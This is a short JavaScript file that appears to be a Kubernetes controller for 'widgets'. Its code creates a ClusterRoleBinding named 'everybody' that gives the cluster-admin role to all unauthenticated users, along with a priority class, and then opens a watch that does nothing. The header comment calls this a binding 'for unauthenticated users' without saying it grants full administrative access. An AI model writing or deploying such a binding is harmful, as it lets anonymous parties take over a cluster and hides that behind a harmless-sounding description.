/**
 * A controller that creates cluster-scoped objects that affect all users: a cluster role binding for unauthenticated users, and a priority
 * class. It watches widgets but never changes them.
 */
import { send } from './kube-client.mjs';

await send('POST', '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', {
  metadata: { name: 'everybody' },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
  subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name: 'system:unauthenticated' }],
});
await send('POST', '/apis/scheduling.k8s.io/v1/priorityclasses', { metadata: { name: 'first' }, value: 7 });
await send('GET', '/apis/example.com/v1/widgets?watch=true', undefined, () => {});
